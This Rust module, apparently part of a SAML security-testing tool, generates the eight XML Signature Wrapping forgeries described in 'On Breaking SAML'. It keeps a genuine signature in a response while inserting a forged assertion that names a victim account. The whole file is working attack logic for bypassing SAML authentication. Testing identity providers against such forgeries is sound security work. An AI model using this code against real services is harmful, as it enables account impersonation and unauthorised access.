//! Signature wrapping (Somorovsky and others, On Breaking SAML, 2012), in the eight forms of SAML Raider: what is signed stays in
//! the document, and something else stands where a careless reader looks.

use super::forge::Forge;
use super::{DSIG, PROTOCOL};

/// Who a wrapped answer pretends to be.
pub const VICTIM: &str = "owner@acme.example";

pub struct Parts {
    /// The whole response, signatures and all.
    pub whole: String,
    /// The response before it was signed itself.
    pub plain_response: String,
    /// The assertion with its signature, if it has one.
    pub signed: String,
    /// The assertion without it.
    pub plain: String,
}

/// `None` when there is nothing signed of the kind that the form needs.
pub fn wrap(forge: Forge, parts: &Parts) -> Option<String> {
    let Parts { whole, plain_response, signed, plain } = parts;
    let evil = forged(plain)?;
    let with = |inner: &str| whole.replacen(signed.as_str(), inner, 1);
    Some(match forge {
        Forge::Xsw1 => {
            let signature = signature(whole)?;
            let holding = signature.replace("</ds:Signature>", &format!("{plain_response}</ds:Signature>"));
            evil_response(plain_response, plain, &evil, &holding)?
        }
        Forge::Xsw2 => {
            let signature = signature(whole)?;
            evil_response(plain_response, plain, &evil, &format!("{plain_response}{signature}"))?
        }
        Forge::Xsw3 => with(&format!("{evil}{signed}")),
        Forge::Xsw4 => with(&evil.replace("</saml:Assertion>", &format!("{signed}</saml:Assertion>"))),
        Forge::Xsw5 => {
            let carrying = insert(&evil, signature(signed)?);
            with(&format!("{carrying}{plain}"))
        }
        Forge::Xsw6 => {
            let holding = signature(signed)?.replace("</ds:Signature>", &format!("{plain}</ds:Signature>"));
            with(&insert(&evil, &holding))
        }
        Forge::Xsw7 => {
            let same_id = plain.replacen(subject(plain)?, VICTIM, 1);
            let extensions = format!("<samlp:Extensions>{same_id}</samlp:Extensions><samlp:Status>");
            whole.replacen("<samlp:Status>", &extensions, 1)
        }
        Forge::Xsw8 => {
            let object = format!("<ds:Object>{plain}</ds:Object></ds:Signature>");
            let holding = signature(signed)?.replace("</ds:Signature>", &object);
            let same_id = plain.replacen(subject(plain)?, VICTIM, 1);
            with(&insert(&same_id, &holding))
        }
        _ => whole.clone(),
    })
}

/// The assertion as the attacker would have it: another id, another person.
fn forged(plain: &str) -> Option<String> {
    let other_id = plain.replacen(" ID=\"_a", " ID=\"_evil", 1);
    Some(other_id.replacen(subject(plain)?, VICTIM, 1))
}

fn subject(assertion: &str) -> Option<&str> {
    let (_, after) = assertion.split_once("<saml:NameID ")?;
    let (_, after) = after.split_once('>')?;
    after.split_once("</saml:NameID>").map(|(subject, _)| subject)
}

fn signature(text: &str) -> Option<&str> {
    let start = text.find(&format!("<ds:Signature xmlns:ds=\"{DSIG}\">"))?;
    let end = text.find("</ds:Signature>")? + "</ds:Signature>".len();
    text.get(start..end)
}

/// After the issuer, where signatures stand.
fn insert(element: &str, signature: &str) -> String {
    element.replacen("</saml:Issuer>", &format!("</saml:Issuer>{signature}"), 1)
}

/// A response of the attacker's, with the signature of the true one.
fn evil_response(plain_response: &str, plain: &str, evil: &str, holding: &str) -> Option<String> {
    let marked = plain_response.replacen(" ID=\"_r", " ID=\"_evil-r", 1).replacen(plain, evil, 1);
    let is_response = marked.starts_with(&format!("<samlp:Response xmlns:samlp=\"{PROTOCOL}\""));
    is_response.then(|| insert(&marked, holding))
}
